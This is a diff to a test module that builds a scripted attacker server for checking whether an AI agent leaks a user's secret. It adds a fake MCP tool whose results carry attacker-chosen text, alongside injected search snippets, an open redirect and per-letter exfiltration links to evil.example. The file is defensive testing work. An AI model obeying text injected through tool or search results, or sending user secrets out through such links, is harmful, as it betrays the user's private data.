@@ -5,6 +5,7 @@ from typing import Any
 from urllib.parse import parse_qs, unquote, urlsplit
 
 from config.base.outbound.testing import ScriptedServer, http_answer
+from tests.tools.mcp_servers import TOOL, body_of, json_answer, result
 from tools.secrets.encodings import spellings
 
 SECRET = "ZEBRA-4711"  # stands in alice's diary and nowhere else
@@ -13,7 +14,9 @@ SEARCH = "http://search.example/?q=zebras"
 EVIL = "http://evil.example/collect?data="
 PARTNER = "http://partner.example"  # named by the operator; an open redirect, and an echo
 LETTERS = {letter: f"http://evil.example/letter/{letter}" for letter in "ABERZ1470-"}
-HOSTS = {"news.example", "search.example", "partner.example"}
+MCP = "http://mcp.example/mcp"
+MCP_TOOL = {**TOOL, "annotations": {"readOnlyHint": True}}
+HOSTS = {"news.example", "search.example", "partner.example", "mcp.example"}
 
 
 class Attacker(ScriptedServer):
@@ -28,8 +31,11 @@ class Attacker(ScriptedServer):
         query = parse_qs(url.query)
         if "to" in query:
             answer = http_answer(status="302 Found", headers={"Location": query["to"][0]})
+        elif url.hostname == "mcp.example":
+            answer = self._as_mcp(body_of(request))
         elif url.hostname == "search.example":
-            found = {"results": [{"title": "Zebras", "snippet": self.text, "url": EVIL}]}
+            said = {"content": self.text, "snippet": self.text}  # of SearXNG, and of others
+            found = {"results": [{"title": "Zebras", **said, "url": EVIL}]}
             answer = _page(json.dumps(found), "application/json")
         else:
             links = "".join(f'<a href="{link}">{letter}</a> ' for letter, link in LETTERS.items())
@@ -37,6 +43,15 @@ class Attacker(ScriptedServer):
             text = f"<html><body><p>{self.text}</p><p>{links}</p><p>{echoed}</p></body></html>"
             answer = _page(text, "text/html")
         peer.sendall(answer)
+
+    def _as_mcp(self, message: dict[str, Any]) -> bytes:
+        if message["method"] == "tools/list":
+            held: dict[str, Any] = {"tools": [MCP_TOOL]}
+        elif message["method"] == "tools/call":
+            held = {"content": [{"type": "text", "text": self.text}]}
+        else:
+            held = {"supportedVersions": ["2026-07-28"], "capabilities": {"tools": {}}}
+        return json_answer(result(message, **held))
 
     @property
     def hosts(self) -> set[str]:
